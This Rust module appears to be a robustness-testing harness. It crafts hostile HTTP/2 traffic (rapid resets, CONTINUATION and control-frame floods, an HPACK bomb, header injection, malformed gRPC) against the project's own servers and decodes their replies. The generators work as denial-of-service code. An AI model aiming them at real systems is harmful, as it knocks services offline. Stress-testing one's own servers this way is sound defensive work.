//! Hostile HTTP/2, frame by frame (RFC 9113): a client library would refuse to send it.

use httlib_hpack::Decoder;
use rand::{RngExt, rngs::StdRng};

use crate::Victim;

/// The first bytes of a connection, and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// What the last frame of each attack carries, a PING: its acknowledgement says that the server has
/// read everything before it.
const MARK: &[u8; 8] = b"are_you_";

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flags.
const NONE: u8 = 0;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;
const WITH_PRIORITY: u8 = 0x20;

type Make = fn(&mut Frames, &mut StdRng, &Victim);

/// What an attack looks like.
pub(crate) struct Shape {
    pub(crate) name: &'static str,
    /// Whether it asks on the first stream for an answer, and reads until that has ended.
    pub(crate) asks: bool,
    make: Make,
}

const fn shape(name: &'static str, asks: bool, make: Make) -> Shape {
    Shape { name, asks, make }
}

pub(crate) static SHAPES: [Shape; 12] = [
    shape("rapid resets", false, rapid_resets),
    shape("headers that never end", false, endless_headers),
    shape("a flood of PING", false, pings),
    shape("a flood of SETTINGS", false, settings),
    shape("a flood of PRIORITY", false, priorities),
    shape("a flood of empty DATA", false, empty_data),
    shape("windows that burst", false, windows),
    shape("frames where none may be", false, misplaced),
    shape("a bomb of HPACK", true, hpack_bomb),
    shape("headers that are none", true, bad_headers),
    shape("gRPC that lies", true, bad_grpc),
    shape("an oversized stream", true, oversized),
];

/// What begins a stream of reflection that a client then leaves open.
pub(crate) fn open_stream(victim: &Victim) -> Vec<u8> {
    let mut frames = Frames(PREFACE.to_vec());
    let path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    let mut fields = request("POST", path, victim);
    fields.extend([("content-type", "application/grpc"), ("te", "trailers")]);
    frames.headers(NONE, 1, &fields);
    frames.0
}

/// The bytes of an attack by chance, and what it is.
pub(crate) fn attack(rng: &mut StdRng, victim: &Victim) -> (&'static Shape, Vec<u8>) {
    let shape = &SHAPES[rng.random_range(0..SHAPES.len())];
    let mut frames = Frames(PREFACE.to_vec());
    (shape.make)(&mut frames, rng, victim);
    frames.frame(PING, NONE, 0, MARK);
    (shape, frames.0)
}

/// One thing that a server said.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Said {
    /// The status of an answer.
    Status(u16),
    /// The status of a call by gRPC.
    Grpc(u16),
    /// INTERNAL, because a frame of the request is broken: gRPC has no other code for that.
    Broken,
    /// That it ends a stream, by its reason (RFC 9113, section 7).
    Reset(u32),
    /// That it ends the connection, by its reason.
    GoAway(u32),
}

/// What is said of a broken frame, as it is written in a header.
const BROKEN: [&[u8]; 3] = [
    b"the%20message%20is%20flagged%20as%20compressed,%20and%20the%20call%20has%20no%20grpc-encoding",
    b"the%20request%20ends%20within%20a%20message",
    b"a%20question%20cannot%20be%20read",
];

/// A frame that was read whole.
struct Frame<'a> {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: &'a [u8],
}

impl Frame<'_> {
    fn has(&self, flag: u8) -> bool {
        self.flags & flag != 0
    }
}

/// The frames among the bytes that a server sent.
fn frames(mut bytes: &[u8]) -> impl Iterator<Item = Frame<'_>> {
    std::iter::from_fn(move || {
        let (head, rest) = bytes.split_first_chunk::<9>()?;
        let [l0, l1, l2, kind, flags, stream @ ..] = *head;
        let length = u32::from_be_bytes([0, l0, l1, l2]) as usize;
        let (payload, rest) = rest.split_at_checked(length)?;
        bytes = rest;
        let stream = u32::from_be_bytes(stream);
        Some(Frame {
            kind,
            flags,
            stream,
            payload,
        })
    })
}

/// Whether there is nothing left to wait for: the first stream has ended, where an attack of this
/// shape asks for that, or everything has been read.
pub(crate) fn is_over(shape: &Shape, answer: &[u8]) -> bool {
    frames(answer).any(|frame| match frame.kind {
        HEADERS | DATA => shape.asks && frame.stream == 1 && frame.has(END_STREAM),
        RST_STREAM => shape.asks && frame.stream == 1,
        PING => !shape.asks && frame.payload == MARK,
        _ => false,
    })
}

/// What a server said on all streams of a connection.
///
/// # Panics
///
/// When it cannot be read: servers do not lie.
pub(crate) fn said(answer: &[u8]) -> Vec<Said> {
    let (mut said, mut block, mut decoder) = (Vec::new(), Vec::new(), Decoder::default());
    let reason = |bytes: &[u8]| {
        let reason = bytes.first_chunk().expect("there is a reason");
        u32::from_be_bytes(*reason)
    };
    for frame in frames(answer) {
        match frame.kind {
            RST_STREAM => said.push(Said::Reset(reason(frame.payload))),
            GOAWAY => said.push(Said::GoAway(reason(&frame.payload[4..]))),
            HEADERS | CONTINUATION => {
                assert!(!frame.has(PADDED | WITH_PRIORITY), "no server of ours does");
                block.extend(frame.payload);
            }
            _ => {}
        }
        if !block.is_empty() && frame.has(END_HEADERS) {
            let mut fields = Vec::new();
            let decoded = decoder.decode(&mut block, &mut fields);
            decoded.expect("a header block can be decoded");
            let has = |name: &[u8], values: &[&[u8]]| {
                let mut fields = fields.iter();
                fields.any(|(n, value, _)| n == name && values.contains(&value.as_slice()))
            };
            let broken = has(b"grpc-status", &[b"13"]) && has(b"grpc-message", &BROKEN);
            for (name, value, _) in &fields {
                let number = || str::from_utf8(value).ok()?.parse().ok();
                match name.as_slice() {
                    b":status" => said.push(Said::Status(number().expect("a number"))),
                    b"grpc-status" if broken => said.push(Said::Broken),
                    b"grpc-status" => said.push(Said::Grpc(number().expect("a number"))),
                    _ => {}
                }
            }
        }
    }
    said
}

struct Frames(Vec<u8>);

impl Frames {
    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let length = u32::try_from(payload.len()).expect("short");
        self.0.extend(&length.to_be_bytes()[1..]);
        self.0.extend([kind, flags]);
        self.0.extend(stream.to_be_bytes());
        self.0.extend(payload);
    }

    fn headers(&mut self, flags: u8, stream: u32, fields: &[(&str, &str)]) {
        self.frame(HEADERS, flags | END_HEADERS, stream, &block(fields));
    }
}

/// A header block of literals without indexing or Huffman codes (RFC 7541, section 6.2.2).
fn block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        string(&mut block, name.as_bytes());
        string(&mut block, value.as_bytes());
    }
    block
}

/// A string with its length (RFC 7541, section 5).
fn string(block: &mut Vec<u8>, text: &[u8]) {
    let mut left = text.len();
    if left < 127 {
        block.push(u8::try_from(left).expect("below 127"));
    } else {
        block.push(127);
        left -= 127;
        while left >= 128 {
            block.push(u8::try_from(left % 128).expect("below 128") | 128);
            left /= 128;
        }
        block.push(u8::try_from(left).expect("below 128"));
    }
    block.extend(text);
}

/// The pseudo-header fields of a request.
fn request<'a>(method: &'a str, path: &'a str, victim: &'a Victim) -> Vec<(&'a str, &'a str)> {
    vec![
        (":method", method),
        (":scheme", "http"),
        (":path", path),
        (":authority", &victim.host),
    ]
}

fn rapid_resets(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    let streams = rng.random_range(10..300);
    for n in 0..streams {
        let stream = 2 * n + 1;
        let method = if n % 2 == 0 { "GET" } else { "POST" };
        let end = if n % 2 == 0 { END_STREAM } else { NONE };
        let path = if n % 2 == 0 { "/products" } else { "/users" };
        frames.headers(end, stream, &request(method, path, victim));
        frames.frame(RST_STREAM, NONE, stream, &8u32.to_be_bytes());
    }
}

fn endless_headers(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    frames.frame(
        HEADERS,
        NONE,
        1,
        &block(&request("GET", "/products", victim)),
    );
    let filler = block(&[("x-filler", &"f".repeat(1000))]);
    for _ in 0..rng.random_range(10..500) {
        frames.frame(CONTINUATION, NONE, 1, &filler);
    }
}

fn pings(frames: &mut Frames, rng: &mut StdRng, _: &Victim) {
    for _ in 0..rng.random_range(10..2_000) {
        frames.frame(PING, NONE, 0, b"ping....");
    }
}

fn settings(frames: &mut Frames, rng: &mut StdRng, _: &Victim) {
    for n in 0..rng.random_range(10..2_000u32) {
        // SETTINGS_INITIAL_WINDOW_SIZE, up and down.
        let mut setting = vec![0, 4];
        setting.extend((n % 2 * 0x7fff_ffff).to_be_bytes());
        frames.frame(SETTINGS, NONE, 0, &setting);
    }
}

fn priorities(frames: &mut Frames, rng: &mut StdRng, _: &Victim) {
    for n in 0..rng.random_range(10..2_000) {
        frames.frame(PRIORITY, NONE, 2 * n + 1, &[0x80, 0, 0, 0, 255]);
    }
}

fn empty_data(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    frames.headers(NONE, 1, &request("POST", "/users", victim));
    for _ in 0..rng.random_range(10..2_000) {
        frames.frame(DATA, NONE, 1, b"");
    }
    frames.frame(RST_STREAM, NONE, 1, &8u32.to_be_bytes());
}

fn windows(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    // No room for an answer; then more than a window may be.
    frames.frame(SETTINGS, NONE, 0, &[0, 4, 0, 0, 0, 0]);
    for n in 0..rng.random_range(1..50) {
        frames.headers(
            END_STREAM,
            2 * n + 1,
            &request("GET", "/openapi.json", victim),
        );
    }
    for _ in 0..3 {
        frames.frame(WINDOW_UPDATE, NONE, 1, &0x7fff_ffffu32.to_be_bytes());
    }
    frames.frame(WINDOW_UPDATE, NONE, 0, &0u32.to_be_bytes());
}

fn misplaced(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    match rng.random_range(0..7) {
        0 => frames.frame(DATA, NONE, 1, b"nobody asked"),
        1 => frames.headers(END_STREAM, 2, &request("GET", "/products", victim)),
        2 => frames.frame(HEADERS, END_HEADERS, 0, b""),
        3 => frames.frame(CONTINUATION, END_HEADERS, 1, b""),
        // Longer than the largest frame, and cut off.
        4 => frames
            .0
            .extend([0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1, 1, 2, 3]),
        5 => frames.frame(0x7f, 0xff, 0xffff_ffff, &[7; 100]),
        _ => frames.frame(SETTINGS, NONE, 0, &[0; 5]),
    }
}

/// Puts a long field into the table of the connection, and then names it over and over by one byte.
fn hpack_bomb(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    let mut bomb = block(&request("GET", "/products", victim));
    // A literal with incremental indexing is entry 62 (RFC 7541, section 6.2.1).
    bomb.push(0x40);
    string(&mut bomb, b"x-bomb");
    string(&mut bomb, &[b'b'; 3_900]);
    bomb.resize(bomb.len() + rng.random_range(100..8_000), 0x80 | 62);
    frames.frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb);
}

fn bad_headers(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    let mut fields = request("POST", "/users", victim);
    match rng.random_range(0..9) {
        0 => fields.push(("X-Upper", "case")),
        1 => fields.push(("transfer-encoding", "chunked")),
        2 => fields.push(("connection", "keep-alive")),
        3 => fields.push(("x-split", "a\r\nX-Other: b")),
        4 => fields.push((":method", "GET")),
        5 => fields.push((":path", "/products")),
        6 => fields.retain(|(name, _)| *name != ":path"),
        7 => fields.push(("content-length", "7")),
        _ => fields[2].1 = "no path at all",
    }
    frames.headers(NONE, 1, &fields);
    // Neither a good body, nor one of the length that was announced.
    frames.frame(DATA, END_STREAM, 1, b"{}");
}

/// More than a body may be, in JSON and in gRPC: announced, and begun; or sent, whether the window
/// lets it or not.
fn oversized(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    let grpc = rng.random_bool(0.5);
    let path = if grpc {
        "/user.UserService/CreateUser"
    } else {
        "/users"
    };
    let kind = if grpc {
        "application/grpc"
    } else {
        "application/json"
    };
    let mut fields = request("POST", path, victim);
    fields.extend([("content-type", kind), ("te", "trailers")]);
    let pieces = if rng.random_bool(0.5) {
        fields.push(("content-length", "2097157"));
        3
    } else {
        rng.random_range(66..100)
    };
    frames.headers(NONE, 1, &fields);
    frames.frame(DATA, NONE, 1, &[0, 0, 0x20, 0, 0]);
    for _ in 0..pieces {
        frames.frame(DATA, NONE, 1, &[b' '; 16_384]);
    }
    if pieces > 3 {
        frames.frame(DATA, END_STREAM, 1, b"");
    }
}

fn bad_grpc(frames: &mut Frames, rng: &mut StdRng, victim: &Victim) {
    let paths = [
        "/user.UserService/CreateUser",
        "/product.ProductService/ListProducts",
        "/order.OrderService/CreateOrder",
        "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
        "/user.UserService/Nothing",
    ];
    let token = format!("Bearer {}", victim.token);
    let mut fields = request("POST", paths[rng.random_range(0..paths.len())], victim);
    fields.extend([
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", token.as_str()),
    ]);
    frames.headers(NONE, 1, &fields);
    let message: Vec<u8> = match rng.random_range(0..6) {
        // Longer than any message may be, and cut off.
        0 => vec![0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3],
        // Compressed by nobody knows what.
        1 => vec![1, 0, 0, 0, 3, 1, 2, 3],
        2 => vec![0, 0, 0],
        // Two messages, and half of a third.
        4 => [&[0; 10][..], &[0, 0, 0, 0, 9, 1]].concat(),
        // A varint that does not end.
        3 => [&[0, 0, 0, 0, 12][..], &[0xff; 12]].concat(),
        // A string that is not UTF-8.
        _ => vec![0, 0, 0, 0, 4, 0x0a, 2, 0xff, 0xfe],
    };
    frames.frame(DATA, END_STREAM, 1, &message);
}
